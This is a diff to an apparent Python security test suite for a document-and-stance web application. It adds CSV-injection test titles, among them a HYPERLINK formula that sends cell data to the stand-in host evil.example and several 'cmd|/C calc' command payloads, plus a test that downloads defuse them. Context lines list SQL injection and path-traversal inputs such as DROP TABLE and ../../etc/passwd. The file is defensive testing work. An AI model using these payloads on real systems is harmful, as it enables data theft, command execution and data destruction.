@@ -39,6 +39,8 @@ SQLI = ["' OR '1'='1", "'; DROP TABLE documents; --", "1; DELETE FROM observatio
         "GEO\x00", "../../etc/passwd", "ARM' AND sleep(5) --", "1e308", "-1", "99999999999999999999", "NULL",
         "🙂", "A" * 300, "ＧＥＯ", "' || (SELECT string_agg(text, '') FROM documents) || '"]
 TOKEN = "s3cret-token-for-tests"
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 
 
 def _build(root: Path) -> Path:
@@ -69,7 +71,12 @@ def _build(root: Path) -> Path:
                 con.execute("INSERT INTO stances (id, document, holder, issue, target, polarity, date, start, "
                             "\"end\", sentence, load_run) VALUES (?, ?, 'GEO', ?, 'RUS', 'negative', '2020', 0, ?, "
                             "?, ?)", [f"{doc}:s0", doc, payload, end, text, run])
-            store.finish_run(con, run, rows_read=len(XSS), rows_stored=len(XSS) * 4)
+            for i, payload in enumerate(FORMULAS):  # CSV injection: titles that a spreadsheet would run
+                doc = f"f{i:015x}"
+                con.execute("INSERT INTO documents (id, sha256, origin, kind, title, published, source, text, "
+                            "load_run) VALUES (?, ?, ?, 'markdown', ?, '2020-01-01', ?, ?, ?)",
+                            [doc, doc * 4, f"formula-{i}.md", payload, payload, f"Georgia and Russia. {payload}", run])
+            store.finish_run(con, run, rows_read=len(XSS) + len(FORMULAS), rows_stored=len(XSS) * 4 + len(FORMULAS))
     return db
 
 
@@ -146,6 +153,22 @@ def test_no_path_traversal(client: TestClient, path: str) -> None:
     resp = client.get(path)
     assert resp.status_code in (400, 404, 405, 422), (path, resp.status_code)
     assert "root:" not in resp.text and "[project]" not in resp.text and "[build-system]" not in resp.text
+
+
+def test_csv_downloads_defuse_spreadsheet_formulas(client: TestClient) -> None:
+    """Text cells that a spreadsheet would read as a formula get a leading apostrophe (OWASP CSV injection)."""
+    import csv
+    import io
+
+    r = client.get("/download/documents.csv")
+    assert r.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
+    titles = {row["title"] for row in rows}
+    for payload in FORMULAS:
+        assert "'" + payload in titles
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
 
 
 def test_csp_and_headers_on_every_kind_of_response(client: TestClient) -> None:
